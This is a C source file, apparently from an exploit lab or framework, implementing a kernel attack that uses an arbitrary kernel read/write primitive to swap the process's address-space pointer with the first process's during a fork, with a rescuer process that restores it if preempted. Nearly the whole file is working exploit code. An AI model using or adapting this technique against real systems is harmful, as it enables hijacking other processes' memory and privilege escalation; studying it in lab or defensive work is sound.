/* The attack's process has the first process's address space, for as long as a fork takes: the
 * child is a copy of that. */
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "raw_call.h"

enum { TRIES_MAX = 20 };

static struct bw_leak leak;
static uint64_t own, theirs;

/* In memory that all processes of the attack have. */
static volatile struct shared {
	int is_foreign;  /* the attack has the other address space */
	int was_rescued; /* and lost it before it gave it back itself */
} * shared;

/* Always ready to run: if the attack loses the processor at the wrong time it must find its own
 * address space when it comes back. */
static _Noreturn void rescue(void)
{
	for (;;) {
		if (shared->is_foreign) {
			bw_vuln_write(leak.process_as, own);
			shared->was_rescued = 1;
			shared->is_foreign = 0;
		}
		sched_yield();
	}
}

/* False: it was a fork like any other. */
static bool fork_theirs(void)
{
	static const uint64_t no_arguments[6];
	long child;

	shared->was_rescued = 0;
	sched_yield();
	shared->is_foreign = 1;
	/* nothing between may touch a page that is not there yet */
	attack_check("vuln_write", bw_vuln_write(leak.process_as, theirs));
	child = raw_call(SYS_fork, no_arguments);
	bw_vuln_write(leak.process_as, own);
	shared->is_foreign = 0;
	if (child == 0) {
		_exit(0);
	}
	if (child < 0) {
		attack_say("the fork was refused");
		return true;
	}
	/* it would go on with what the first process has at this place */
	kill((pid_t)child, SIGKILL);
	waitpid((pid_t)child, NULL, 0);
	return !shared->was_rescued;
}

int main(void)
{
	pid_t rescuer;

	attack_begin(&leak, 1, 0);
	own = (uint64_t)bw_vuln_read(leak.process_as);
	theirs = (uint64_t)bw_vuln_read(leak.process_first + (leak.process_as - leak.process));
	shared =
		mmap(NULL, BW_PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	rescuer = fork();
	if (rescuer == 0) {
		rescue();
	}
	attack_say("the address space of this process is at 0x%lx, for one fork at 0x%lx", own,
		   theirs);
	for (int tries = 0; tries < TRIES_MAX && !fork_theirs(); tries++) {}
	kill(rescuer, SIGKILL);
	waitpid(rescuer, NULL, 0);
	return attack_finish();
}
